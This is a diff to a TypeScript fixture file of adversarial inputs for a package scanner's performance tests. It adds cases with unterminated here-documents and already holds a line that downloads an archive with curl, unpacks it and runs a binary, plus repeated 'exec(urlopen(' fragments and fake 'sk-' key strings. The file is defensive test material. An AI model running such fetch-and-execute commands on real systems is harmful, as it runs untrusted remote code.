@@ -2,7 +2,8 @@
  * Adversarial inputs for the package scan, shared by its linearity test and `bench/scan.ts`: each
  * a file name and a maker of about `bytes` of content aimed at one rule — thousands of downloads
  * each run, long nested inline calls, long lines of each rule's trigger, variables whose values
- * would grow without bound if substituted without a budget, archives unpacked into deep folders.
+ * would grow without bound if substituted without a budget, archives unpacked into deep folders,
+ * here-documents never ended.
  */
 
 /** `unit` repeated between `head` and `tail`, to at most `bytes` (ASCII) in all. */
@@ -41,5 +42,9 @@ export const ADVERSARIAL_CASES: readonly AdversarialCase[] = [
     const deep = 'd/'.repeat(Math.floor((n - 64) / 4));
     return `curl -o a.tgz https://x.example/a.tgz\ntar xzf a.tgz -C ${deep}\n./${deep}x\n`;
   }],
+  ['thousands of here-documents, none ended, each inside the last', 'INSTALL', (n) => lines((i) => `cat > f${i} <<E${i}`, n)],
+  ['here-documents opened all along one line', 'INSTALL', (n) => fill('cat <<A ', n, '', '\nA\ncurl https://x.example')],
+  ['a python here-document of downloads and evals, never ended', 'INSTALL', (n) => fill('exec(urlopen(', n, "python3 - <<EOF\nopen('/x', 'w')\n")],
+  ['here-strings after runs of options', 'INSTALL', (n) => fill('sh -x -x -x <<< ', n)],
   ['sk- without the OpenAI marker', 'payload/keys.txt', (n) => fill('sk-', n)],
 ];
